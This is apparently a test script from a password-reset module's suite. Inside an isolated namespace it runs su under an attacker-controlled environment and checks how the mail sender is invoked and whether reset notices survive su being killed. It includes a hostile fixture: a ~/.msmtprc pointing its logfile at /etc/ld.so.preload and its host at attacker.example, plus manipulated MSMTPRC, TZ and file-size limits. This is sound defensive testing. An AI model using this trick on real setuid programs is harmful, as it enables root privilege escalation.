"""Inside a private namespace (see Tests/support/namespace_env.py): an unprivileged user runs `su VICTIM` with a hostile environment
(~/.msmtprc naming /etc/ld.so.preload as its log, MSMTPRC, TZ, a one-block soft file-size limit, cwd in their own
home) and
picks "Code by e-mail". The mail sender is a recording program: it writes down who it runs as, where, with what
environment and limits, and the message. Then a reset through su is killed (SIGKILL to su) the moment "Your
password has been reset." appears: the notice must still be delivered.

  python3 ns_sender_identity.py MODULE SSPR DRIVER

Prints one JSON object (the last line) for the test to check."""
import glob
import io
import os
import re
import signal
import sys
import time

import pexpect

from namespace_env import OFFER, RESET_DONE, Namespace, done, sh

module, sspr, driver = sys.argv[1:4]
VICTIM, ATTACKER, OLD, NEW = "sspr-victim", "sspr-attacker", "Old-victim-Pw-1", "New-victim-Pw-2"
ns = Namespace(module, sspr, policy="")
outbox = os.path.join(ns.work, "sent")
os.mkdir(outbox, 0o700)
sender = os.path.join(ns.work, "recording-sender")
with open(sender, "w") as f:
    f.write(f"""#!/bin/sh
# Records who runs it, where, how, and the message (stdin).
out={outbox}/mail-$$
{{ echo "== status"; grep -E '^(Uid|Gid|Groups):' /proc/self/status
   echo "== cwd"; pwd
   echo "== env"; env | sort
   echo "== limits"; ulimit -f; ulimit -c
   echo "== message"; cat; }} > "$out.tmp" && mv "$out.tmp" "$out"
""")
os.chmod(sender, 0o755)
ns.policy(f"services = su\nmethods = recovery_code,email\nmail_command = {sender}\nnotify_user = yes\n"
          "helpdesk = Call 555-0100\n")
ns.stack("su")
vuid, vgid = ns.user(VICTIM, OLD)
auid, agid = ns.user(ATTACKER, "Attacker-Pw-1")
home = os.path.join(ns.work, "home-" + ATTACKER)
with open(os.path.join(home, ".msmtprc"), "w") as f:
    f.write("defaults\nlogfile /etc/ld.so.preload\naccount default\nhost attacker.example\nfrom a@attacker.example\n")
res = {"etc_is_copy": ns.etc_is_copy}
logs = {}


def spawn(cmd, args, name, env=None, cwd=None):
    child = pexpect.spawn(cmd, args, encoding="utf-8", codec_errors="replace", timeout=30, cwd=cwd,
                          env=env or {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "TERM": "dumb", "LANG": "C"})
    logs[name] = io.StringIO()
    child.logfile_read = logs[name]
    return child


def messages():
    return sorted(glob.glob(os.path.join(outbox, "mail-*[0-9]")), key=os.path.getmtime)


def code_in(path):
    text = open(path).read().split("== message", 1)[1]
    return re.search(r"\b(\d{6,8})\b", text).group(1)


# The victim registers an address (as root: the CLI works on the store directly), confirming the mailed code.
child = spawn(sspr, ["--user", VICTIM, "add", "email", "victim@example.com"], "register")
child.expect("Code sent to [^:]*: ")
child.sendline(code_in(messages()[-1]))
child.expect(pexpect.EOF)
child.close()
res["registered"] = child.exitstatus
codes = ns.codes(VICTIM)
before = set(messages())

# The attack: su run by the unprivileged user, everything of theirs hostile.
hostile = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "TERM": "dumb", "LANG": "C", "HOME": home,
           "MSMTPRC": os.path.join(home, ".msmtprc"), "TZ": "Pacific/Kiritimati", "LD_PRELOAD": "",
           "MAILRC": os.path.join(home, ".mailrc")}
su = ["sh", "-c", f'ulimit -S -f 1; ulimit -c unlimited; cd {home}; exec setpriv --reuid={auid} --regid={agid} '
      f'--init-groups su {VICTIM} -c true']


def su_choosing(name, method):
    """su by the attacker: a wrong password, yes, and `method` picked from the menu."""
    child = spawn(su[0], su[1:], name, env=hostile)
    child.expect("Password: ")
    child.sendline("not-the-password")
    child.expect(re.escape(OFFER.rstrip()))
    child.sendline("yes")
    child.expect(r"Choose a method \[1-\d\]: ")
    child.sendline(re.search(r"(\d)\. " + re.escape(method), logs[name].getvalue()).group(1))
    return child


child = su_choosing("attack", "Code by e-mail")
child.expect("Code sent to [^:]*: ")
sent = [m for m in messages() if m not in before]
res["attack_mails"] = len(sent)
res["sender_record"] = open(sent[-1]).read() if sent else ""
child.close(force=True)

# The notice: su killed the moment the success line appears.
before = set(messages())
child = su_choosing("killed", "Recovery code")
child.expect("Recovery code: ")
child.sendline(codes[0])
child.expect("New password: ")
child.sendline(NEW)
child.expect("Retype new password: ")
child.sendline(NEW)
child.expect(re.escape(RESET_DONE))
os.kill(child.pid, signal.SIGKILL)
t0 = time.monotonic()
notice = None
while time.monotonic() - t0 < 20 and notice is None:
    for m in messages():
        if m not in before and "your password was reset" in open(m).read():
            notice = open(m).read()
    time.sleep(0.1)
res["notice"] = notice or ""
res["notice_after_s"] = round(time.monotonic() - t0, 2)
res["new_works"] = ns.verify_password(VICTIM, NEW)
res["preload"] = open("/etc/ld.so.preload").read() if os.path.exists("/etc/ld.so.preload") else None
res["transcripts"] = {k: v.getvalue() for k, v in logs.items()}
done(res, ns)
